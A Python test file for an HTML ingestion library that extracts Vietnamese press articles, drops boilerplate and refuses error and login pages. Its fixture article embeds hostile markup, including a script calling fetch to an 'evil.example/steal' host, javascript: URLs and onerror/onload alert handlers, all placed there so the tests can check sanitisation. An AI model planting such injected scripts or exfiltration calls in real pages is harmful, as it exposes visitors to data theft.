"""HTML press articles: main text, metadata, boilerplate dropped, hostile markup harmless, error pages refused."""

from __future__ import annotations

from datetime import date

import pytest

from parlens.errors import ParlensError
from parlens.ingest import read_bytes

ARTICLE = """<!DOCTYPE html><html><head><meta charset="utf-8">
<title>Tỉnh đẩy mạnh cải cách hành chính - Báo Sông Mã</title>
<meta property="og:site_name" content="Báo Sông Mã">
<meta property="og:url" content="https://baosongma.example.vn/cchc-2026.html">
<link rel="canonical" href="https://baosongma.example.vn/cchc-2026.html">
<meta property="article:published_time" content="2026-03-12T08:30:00+07:00">
<script>document.write('CHÈN MÃ ĐỘC'); fetch('https://evil.example/steal')</script>
<style>body {{ background: url(javascript:alert(1)) }}</style></head>
<body onload="alert('x')"><nav><ul><li><a href="/">Trang chủ</a></li><li><a href="/ts">Thời sự</a></li></ul></nav>
<article><h1>Tỉnh đẩy mạnh cải cách hành chính</h1>
<p>Sáng 12/3, Ủy ban nhân dân tỉnh tổ chức hội nghị triển khai nhiệm vụ cải cách hành chính năm 2026 với sự tham dự của lãnh đạo các sở, ban, ngành.</p>
<p>Chủ tịch UBND tỉnh giao Sở Nội vụ chủ trì theo dõi Chỉ số cải cách hành chính và báo cáo kết quả trước ngày 15/12.<script>alert('trong bài')</script></p>
<h2>Nhiệm vụ trọng tâm</h2><ul><li>Rà soát, cắt giảm thủ tục hành chính không cần thiết</li><li>Số hóa hồ sơ tại bộ phận một cửa</li></ul>
<p>Các địa phương được yêu cầu công khai kết quả giải quyết hồ sơ trên cổng dịch vụ công của tỉnh.</p>
<img src=x onerror="alert(1)">
<h3>Tin cùng chuyên mục</h3><ul><li><a href="/a">Hội nghị tổng kết công tác thi đua khen thưởng</a></li>
<li><a href="/b">Khai mạc lễ hội du lịch biển</a></li></ul></article>
<div class="comments"><h3>Bình luận</h3><p>Bạn đọc Nam: bài viết rất hay.</p></div>
<footer>Bản quyền thuộc Báo Sông Mã</footer></body></html>"""


def test_press_metadata():
    doc = read_bytes(ARTICLE.encode(), "bai-bao.html")
    m = doc.metadata
    assert (m.doc_type, m.title, m.issued_on) == ("Bài báo", "Tỉnh đẩy mạnh cải cách hành chính", date(2026, 3, 12))
    assert (m.publisher, m.source_url) == ("Báo Sông Mã", "https://baosongma.example.vn/cchc-2026.html")
    assert m.number is None and m.issuer is None
    assert doc.media_type == "text/html"


def test_main_text_kept_boilerplate_dropped():
    doc = read_bytes(ARTICLE.encode(), "bai-bao.html")
    assert doc.blocks[0].kind == "heading" and doc.blocks[0].text == "Tỉnh đẩy mạnh cải cách hành chính"
    assert "Sở Nội vụ chủ trì theo dõi Chỉ số cải cách hành chính" in doc.text
    assert [b.text for b in doc.blocks if b.kind == "list_item"] == [
        "- Rà soát, cắt giảm thủ tục hành chính không cần thiết", "- Số hóa hồ sơ tại bộ phận một cửa"]
    for dropped in ("Trang chủ", "Tin cùng chuyên mục", "thi đua khen thưởng", "Bạn đọc Nam", "Bản quyền"):
        assert dropped not in doc.text
    for b in doc.blocks:
        assert doc.text[b.start:b.end] == b.text


def test_hostile_markup_never_reaches_the_text():
    doc = read_bytes(ARTICLE.encode(), "bai-bao.html")
    for bad in ("CHÈN MÃ ĐỘC", "alert", "evil.example", "javascript", "onerror", "<script"):
        assert bad not in doc.text


def test_page_with_no_article_falls_back_to_visible_text():
    html = "<html><head><script>var x='ẩn';</script></head><body><div>Sở Nội vụ thông báo lịch họp.</div></body></html>"
    doc = read_bytes(html.encode(), "p.html")
    assert "Sở Nội vụ thông báo lịch họp." in doc.text and "var x" not in doc.text


LEAD = "Tỉnh Quảng Ngãi giao Sở Nội vụ rà soát toàn bộ quy trình nội bộ giải quyết thủ tục hành chính trong quý II."
PAGE_WITH_BOLD_LEAD = f"""<html><head><title>Quảng Ngãi rà soát quy trình nội bộ</title>
<meta name="description" content="{LEAD}"></head><body>
<nav><a href="/">Trang chủ</a> <a href="/thoi-su">Thời sự</a></nav>
<article><h1>Quảng Ngãi rà soát quy trình nội bộ giải quyết thủ tục hành chính</h1>
<div class="article-meta"><span class="author">Minh Anh</span> - <time datetime="2026-04-02">02/04/2026</time></div>
<p class="sapo"><strong>{LEAD}</strong></p>
<div class="article-content">
<p>Theo kế hoạch, các sở, ban, ngành cập nhật quy trình điện tử trên Hệ thống thông tin giải quyết thủ tục hành chính của tỉnh và công khai kết quả rà soát.</p>
<p>Việc rà soát nhằm rút ngắn thời gian xử lý hồ sơ, giảm số bước chuyển hồ sơ giấy giữa các bộ phận chuyên môn.</p>
</div></article></body></html>"""


def test_bold_lead_paragraph_is_kept_once():
    doc = read_bytes(PAGE_WITH_BOLD_LEAD.encode("utf-8"), "bai-bao.html")
    assert doc.text.count("rà soát toàn bộ quy trình nội bộ") == 1
    assert doc.text.index("rà soát toàn bộ") < doc.text.index("Theo kế hoạch")


def test_description_that_is_not_shown_on_the_page_is_not_taken():
    hidden = PAGE_WITH_BOLD_LEAD.replace(f'<p class="sapo"><strong>{LEAD}</strong></p>',
                                         f'<p class="sapo" style="display: none">{LEAD}</p>')
    doc = read_bytes(hidden.encode("utf-8"), "bai-bao.html")
    assert "rà soát toàn bộ quy trình nội bộ" not in doc.text


# ---------------------------------------------------------------------------------------------- no document content (E014)

MENU = ('<ul class="main-menu"><li><a href="/">Trang chủ</a></li><li><a href="/gioi-thieu">Giới thiệu</a></li>'
        '<li><a href="/tin-tuc">Tin tức - Sự kiện</a></li><li><a href="/van-ban">Văn bản</a></li></ul>')

ERROR_PAGES = {
    "cms-trang-khong-ton-tai": f"""<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>Trang không tồn tại</title>
<link rel="canonical" href="https://phuonghoabinh.example.vn/bai-viet-cu.html"></head>
<body><div id="header"><div class="logo">CỔNG THÔNG TIN ĐIỆN TỬ PHƯỜNG HÒA BÌNH</div>{MENU}</div>
<div class="container"><div class="error-box"><p>Rất tiếc, trang bạn tìm kiếm không tồn tại hoặc đã bị xóa.</p>
<p><a href="/">Quay lại trang chủ</a></p></div></div>
<div id="footer">Bản quyền thuộc UBND phường Hòa Bình. Địa chỉ: số 1 đường Trần Phú.</div></body></html>""",
    "nginx-404": "<html><head><title>404 Not Found</title></head><body><center><h1>404 Not Found</h1></center><hr>"
                 "<center>nginx</center></body></html>",
    "apache-403": """<!DOCTYPE HTML PUBLIC "-//IETF//DTD HTML 2.0//EN"><html><head><title>403 Forbidden</title></head>
<body><h1>Forbidden</h1><p>You don't have permission to access this resource.</p><hr>
<address>Apache Server at congbao.example.vn Port 443</address></body></html>""",
    "heading-khong-tim-thay": """<!doctype html><html><head><meta charset="utf-8"><title>Sở Tư pháp tỉnh Bình Định</title></head>
<body><nav><a href="/">Trang chủ</a> | <a href="/lien-he">Liên hệ</a></nav><main><h2>Không tìm thấy trang</h2>
<p>Xin lỗi, đường dẫn bạn truy cập không tồn tại.</p></main></body></html>""",
    "aspx-loi-404": """<html><head><title>Lỗi 404 - Cổng TTĐT huyện Yên Thành</title></head><body>
<form id="form1" method="post" action="./404.aspx"><div class="wrapper"><div class="banner"><img src="/banner.png"></div>
<div class="content"><span class="err">LỖI 404</span><br><span>Nội dung bạn yêu cầu không tồn tại trên hệ thống.</span>
</div></div></form></body></html>""",
    "only-a-line-says-so": f"""<html><head><meta charset="utf-8"><title>UBND huyện Nam Sơn</title></head><body>{MENU}
<div class="msg">Bài viết bạn tìm không tồn tại hoặc đã bị gỡ bỏ.</div></body></html>""",
    "bao-tri": """<html><head><meta charset="utf-8"><title>Thông báo</title></head><body><div style="text-align:center">
<h2>Hệ thống đang bảo trì</h2><p>Vui lòng quay lại sau.</p></div></body></html>""",
    "english-not-found": """<html><head><title>Page not found · Portal</title></head><body><div class="main"><h1>Oops!</h1>
<p>The page you requested could not be found.</p><p><a href="/">Go home</a></p></div></body></html>""",
    "login": """<!doctype html><html><head><meta charset="utf-8"><title>Hệ thống quản lý văn bản và điều hành</title></head>
<body><div class="login-box"><h3>Đăng nhập hệ thống</h3><form method="post"><label>Tên đăng nhập</label>
<input name="u" type="text"><label>Mật khẩu</label><input name="p" type="PASSWORD"><input type="checkbox"> Ghi nhớ
<button>Đăng nhập</button><a href="/quen-mat-khau">Quên mật khẩu?</a></form></div></body></html>""",
    "navigation-only": f"""<!doctype html><html><head><meta charset="utf-8"><title>Văn bản chỉ đạo điều hành</title></head>
<body>{MENU}<div class="list"><a href="/vb/1">Kế hoạch cải cách hành chính năm 2026 của UBND huyện</a><br>
<a href="/vb/2">Quyết định công bố danh mục thủ tục hành chính</a><br><a href="/vb/3">Công văn về việc rà soát thủ tục
hành chính nội bộ</a><br><a href="/vb/4">Báo cáo kết quả cải cách hành chính quý I</a><br><a href="?page=2">Trang sau</a>
</div></body></html>""",
}


@pytest.mark.parametrize("name", sorted(ERROR_PAGES))
def test_page_with_no_document_content_is_refused_e014(name):
    with pytest.raises(ParlensError) as err:
        read_bytes(ERROR_PAGES[name].encode(), f"{name}.html")
    assert err.value.code == "PARLENS-E014" and err.value.detail.startswith(f"{name}.html: ")


def test_error_page_saved_under_a_pdf_name_is_refused_too():
    with pytest.raises(ParlensError) as err:
        read_bytes(ERROR_PAGES["cms-trang-khong-ton-tai"].encode(), "ke-hoach-cchc-2026.pdf")
    assert err.value.code == "PARLENS-E014" and "Trang không tồn tại" in err.value.detail


SHORT_PAGES = {
    "short-news": (f"""<!doctype html><html><head><meta charset="utf-8"><title>Phường Hòa Bình ra mắt bộ phận một cửa hiện đại</title>
</head><body>{MENU}<article><h1>Phường Hòa Bình ra mắt bộ phận một cửa hiện đại</h1>
<p>Sáng 5/3, UBND phường Hòa Bình đưa vào sử dụng Bộ phận tiếp nhận và trả kết quả mới, bố trí máy lấy số tự động và
khu vực hướng dẫn người dân nộp hồ sơ trực tuyến.</p></article></body></html>""", "máy lấy số tự động"),
    "short-notice": (f"""<html><head><meta charset="utf-8"><title>Thông báo lịch tiếp công dân</title></head><body>{MENU}
<div class="noidung"><h2>THÔNG BÁO</h2><p>Chủ tịch UBND xã tiếp công dân định kỳ vào sáng thứ Năm hằng tuần tại trụ sở
UBND xã.</p></div></body></html>""", "sáng thứ Năm hằng tuần"),
    "short-official-text": ("""<html><head><meta charset="utf-8"><title>Quyết định số 12/QĐ-UBND</title></head><body>
<p>ỦY BAN NHÂN DÂN XÃ TÂN LẬP</p><p>Số: 12/QĐ-UBND</p><p>Tân Lập, ngày 10 tháng 3 năm 2026</p><p>QUYẾT ĐỊNH</p>
<p>Về việc kiện toàn Tổ công nghệ số cộng đồng</p><p>Điều 1. Kiện toàn Tổ công nghệ số cộng đồng xã gồm các ông, bà có
tên tại danh sách kèm theo.</p><p>Điều 2. Quyết định có hiệu lực kể từ ngày ký.</p></body></html>""", "Điều 2."),
    "article-about-a-404": ("""<html><head><meta charset="utf-8"><title>Cổng dịch vụ công khắc phục lỗi 404 sau nâng cấp</title>
</head><body><article><h1>Cổng dịch vụ công khắc phục lỗi 404 sau nâng cấp</h1><p>Sau khi nâng cấp, một số đường dẫn cũ
trên Cổng dịch vụ công của tỉnh báo lỗi "Trang không tồn tại". Sở Khoa học và Công nghệ đã chuyển hướng toàn bộ đường
dẫn cũ sang địa chỉ mới.</p><p>Người dân có thể tra cứu hồ sơ bình thường từ ngày 6/3.</p></article></body></html>""",
                            "chuyển hướng toàn bộ"),
    "article-beside-a-login-box": ("""<html><head><meta charset="utf-8"><title>Hướng dẫn đăng nhập Cổng dịch vụ công bằng VNeID</title>
</head><body><article><h1>Hướng dẫn đăng nhập Cổng dịch vụ công bằng VNeID</h1><p>Từ ngày 1/7, người dân đăng nhập Cổng
dịch vụ công quốc gia bằng tài khoản định danh điện tử mức 2 trên ứng dụng VNeID.</p></article><div class="sidebar">
<form><input type="text" name="u"><input type="password" name="p"><button>Đăng nhập</button></form></div></body></html>""",
                                   "tài khoản định danh điện tử"),
}


@pytest.mark.parametrize("name", sorted(SHORT_PAGES))
def test_short_genuine_pages_are_read(name):
    page, phrase = SHORT_PAGES[name]
    doc = read_bytes(page.encode(), f"{name}.html")
    assert phrase in doc.text


def test_no_content_phrases_are_data():
    from parlens.ingest.html import PageProfile, _no_content_phrases, no_content_reason

    phrases = _no_content_phrases()
    assert set(phrases) == {"missing", "login"} and len(phrases["missing"]) > 10
    assert no_content_reason(PageProfile(title="Trang bạn truy cập không tồn tại")) is not None
    assert no_content_reason(PageProfile(title="Kế hoạch số hóa hồ sơ", lines=["Trang bạn truy cập không tồn tại"] + [
        "Ủy ban nhân dân xã giao Văn phòng rà soát, số hóa toàn bộ hồ sơ thủ tục hành chính trong năm 2026."] * 8)) is None


def test_page_without_article_warns_w005():
    page = ("<html><head><title>Lịch</title></head><body><ul><li>Lịch họp giao ban</li><li>Thứ Hai</li></ul>"
            "</body></html>")
    doc = read_bytes(page.encode(), "lich.html")
    assert doc.warnings == ["PARLENS-W005 no article body found; read the visible text of the page"]
